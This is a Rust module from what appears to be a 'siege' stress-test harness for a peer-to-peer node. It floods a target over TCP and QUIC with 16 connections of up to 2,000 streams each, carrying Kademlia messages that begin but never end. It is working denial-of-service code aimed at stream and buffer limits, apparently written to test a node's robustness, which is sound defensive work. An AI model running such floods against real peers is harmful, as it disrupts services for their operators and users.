//! More streams than anybody may have, with messages that do not end.

use super::Held;
use crate::{
    quic,
    siege::Target,
    tcp,
    wire::{data, kad, noise},
};

/// So many connections.
pub(crate) const CONNECTIONS: u64 = 16;

/// As many connections may have one address.
const FROM: u8 = 1;

/// So many streams of each.
const STREAMS: u32 = 2_000;

/// What is said on a stream: the beginning of a message of 60,000 bytes.
fn beginning() -> Vec<u8> {
    [kad(), vec![0xe0, 0xd4, 0x03], noise(5, 50_000)].concat()
}

/// Opens streams without an end, most of which are beyond the bound.
pub(crate) async fn flood_tcp(target: Target) -> Held {
    let mut held = Held::new();
    for _ in 0..CONNECTIONS {
        let mut secured = tcp::secured(FROM, target.tcp).await.expect("room");
        for stream in 0..STREAMS {
            let bytes = if stream < 64 { beginning() } else { kad() };
            if !tcp::write(&mut secured, &data(1, 2 * stream + 1, &bytes)).await {
                break;
            }
        }
        held.push(Box::new(secured));
    }
    held
}

/// As many streams as are granted.
pub(crate) async fn flood_quic(target: Target) -> Held {
    let mut held = Held::new();
    for _ in 0..CONNECTIONS {
        let dialled = quic::dial(FROM, target.quic).await.expect("room");
        let mut streams = Vec::new();
        let opening = async {
            for _ in 0..STREAMS {
                let Some(stream) = dialled.open(&beginning()).await else { return };
                streams.push(stream);
            }
        };
        drop(tokio::time::timeout(std::time::Duration::from_millis(300), opening).await);
        held.push(Box::new((dialled, streams)));
    }
    held
}
